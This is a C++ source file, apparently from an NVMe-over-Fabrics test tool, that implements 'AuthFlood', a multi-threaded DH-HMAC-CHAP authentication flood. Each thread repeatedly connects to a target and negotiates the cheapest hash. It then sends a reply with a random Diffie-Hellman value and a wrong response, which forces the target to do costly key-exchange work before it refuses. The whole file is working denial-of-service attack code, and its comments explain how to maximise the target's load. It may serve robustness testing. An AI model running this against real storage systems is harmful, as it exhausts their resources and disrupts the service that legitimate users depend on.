#include "tools/attack/auth_flood.hpp"

#include <cstring>

#include "core/auth/crypto.hpp"
#include "core/proto/auth.hpp"
#include "tools/host/commands.hpp"
#include "tools/host/dhchap.hpp"
#include "tools/host/errors.hpp"
#include "tools/host/pdu_build.hpp"
#include "tools/host/queue.hpp"

namespace nvmfd::attack {

namespace wire = proto::auth;

namespace {

constexpr uint16_t kTid = 0x0a7f;

std::vector<uint8_t> negotiate(uint8_t group) {
    std::vector<uint8_t> m(sizeof(wire::Negotiate) + sizeof(wire::ProtocolDescriptor));
    wire::Negotiate n{{wire::kCommonMessages, wire::kNegotiate, 0, kTid}, 0, 1};
    wire::ProtocolDescriptor d{};
    d.authid = wire::kAuthIdDhchap;
    d.halen = 1;
    d.ids[0] = 1;  // SHA-256: the cheapest hash, so that the DH work dominates
    d.dhlen = 1;
    d.ids[wire::kDhGroupListOffset] = group;
    std::memcpy(m.data(), &n, sizeof n);
    std::memcpy(m.data() + sizeof n, &d, sizeof d);
    return m;
}

// A REPLY the target must do the DH work for: a random value below the
// group's prime (every RFC 7919 prime starts with 0xFF bytes) and a wrong R1.
std::vector<uint8_t> reply(const wire::Challenge& c) {
    auto dhv = auth::random_bytes(c.dhvlen);
    if (!dhv.empty()) dhv[0] = 0x7f;
    wire::Reply r{{wire::kDhchapMessages, wire::kReply, 0, kTid}, c.hl, 0, 0, 0, c.dhvlen, 0};
    std::vector<uint8_t> m(sizeof r + 2 * size_t(c.hl) + dhv.size());
    std::memcpy(m.data(), &r, sizeof r);
    auto r1 = auth::random_bytes(c.hl);
    std::copy(r1.begin(), r1.end(), m.begin() + sizeof r);
    std::copy(dhv.begin(), dhv.end(), m.begin() + sizeof r + 2 * size_t(c.hl));
    return m;
}

}  // namespace

AuthFlood::AuthFlood(AuthFloodOptions options) : options_(std::move(options)) {
    for (unsigned i = 0; i < options_.connections; ++i) threads_.emplace_back([this] { run(); });
}

AuthFlood::~AuthFlood() { stop(); }

void AuthFlood::stop() {
    stop_ = true;
    for (auto& t : threads_)
        if (t.joinable()) t.join();
}

void AuthFlood::run() {
    while (!stop_) {
        try {
            round();
            ++rounds_;
        } catch (const host::Error&) {
            ++failures_;
        }
    }
}

void AuthFlood::round() {
    host::Queue q(host::Connection::open(options_.target, {}), 0, 31);
    std::array<uint8_t, 16> id{0xa7, 0x0f};
    proto::ConnectData data = host::cmd::connect_data(id, proto::kDynamicControllerId, options_.subnqn,
                                                      options_.hostnqn);
    auto c = q.execute(host::cmd::connect({0, 31, 0, false}),
                       host::Transfer::to_controller(host::pdu::as_bytes_of(data), host::DataPlacement::InCapsule));
    if (!c.status.ok()) throw host::Error("Connect refused");
    if (!host::auth_send(q, negotiate(options_.dh_group)).status.ok()) throw host::Error("NEGOTIATE failed");
    std::vector<uint8_t> m;
    if (!host::auth_receive(q, m).status.ok() || m.size() < sizeof(wire::Challenge)) throw host::Error("no CHALLENGE");
    wire::Challenge ch;
    std::memcpy(&ch, m.data(), sizeof ch);
    if (ch.h.id != wire::kChallenge) throw host::Error("no CHALLENGE");
    if (!host::auth_send(q, reply(ch)).status.ok()) throw host::Error("REPLY failed");
    if (!host::auth_receive(q, m).status.ok() || m.size() < 2 || m[1] != wire::kFailure1)
        throw host::Error("no FAILURE1");
}

}  // namespace nvmfd::attack
